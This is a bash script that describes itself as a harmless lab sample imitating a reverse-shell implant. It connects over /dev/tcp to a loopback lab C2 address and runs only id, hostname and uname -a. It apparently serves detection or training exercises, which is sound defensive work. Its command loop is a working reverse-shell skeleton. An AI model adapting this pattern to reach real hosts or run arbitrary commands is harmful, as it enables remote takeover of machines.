#!/bin/bash
# HARMLESS LAB SAMPLE written for ioclab's reverse-shell-c2 scenario.
# It imitates a reverse shell but is not malware: it connects to the lab C2
# 127.0.88.44:4444, a loopback listener of the lab network (the sandbox's
# and the endpoint's network namespaces each have their own loopback), and
# answers only a few harmless commands (id, hostname, uname -a, exit);
# anything else is refused. It hangs up after 3 seconds without a command.
# It never contacts another address.
c2_ip=127.0.88.44
c2_port=4444
exec 3<>"/dev/tcp/$c2_ip/$c2_port" || exit 0
echo "lab-implant $(hostname) ready" >&3
while IFS= read -r -t 3 cmd <&3; do
    case "$cmd" in
        id | hostname | "uname -a") $cmd >&3 2>&1 ;;
        exit) break ;;
        *) echo "lab sample: refusing $cmd" >&3 ;;
    esac
done
exec 3>&-
